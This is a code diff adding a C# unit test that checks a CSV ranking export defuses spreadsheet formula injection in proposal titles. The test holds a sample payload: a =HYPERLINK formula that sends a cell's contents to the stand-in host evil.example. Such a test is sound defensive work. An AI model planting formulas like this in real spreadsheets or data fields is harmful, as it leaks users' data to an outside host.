@@ -53,4 +53,17 @@ public sealed class RankingExportTests(IdeaHubApp app) : IClassFixture<IdeaHubAp
         Assert.Contains("Laporan Inovasi Bulanan", html);
         Assert.Contains("Lapor Jalan Rusak Berbasis Foto Uji", html);
     }
+
+    [Fact]
+    public async Task Csv_export_writes_a_formula_title_as_text()
+    {
+        const string evil = "=HYPERLINK(\"http://evil.example/?d=\"&B3,\"Klik detail\")";
+        var p = await _data.ProposalAsync("dinsos", evil, RankingData.Day(2024, 11, 2));
+        await _data.ReviewAsync(p, "reviewer", RankingData.Day(2024, 11, 10), score: 4);
+        using var client = await app.ClientAsAsync("bupati");
+        var csv = Encoding.UTF8.GetString(await client.GetByteArrayAsync("/api/rankings/2024-11/export.csv"));
+        Assert.Contains(",\"'=HYPERLINK(\"\"http://evil.example/", csv);
+        Assert.DoesNotContain(",=HYPERLINK", csv);
+        Assert.DoesNotContain(",\"=HYPERLINK", csv);
+    }
 }
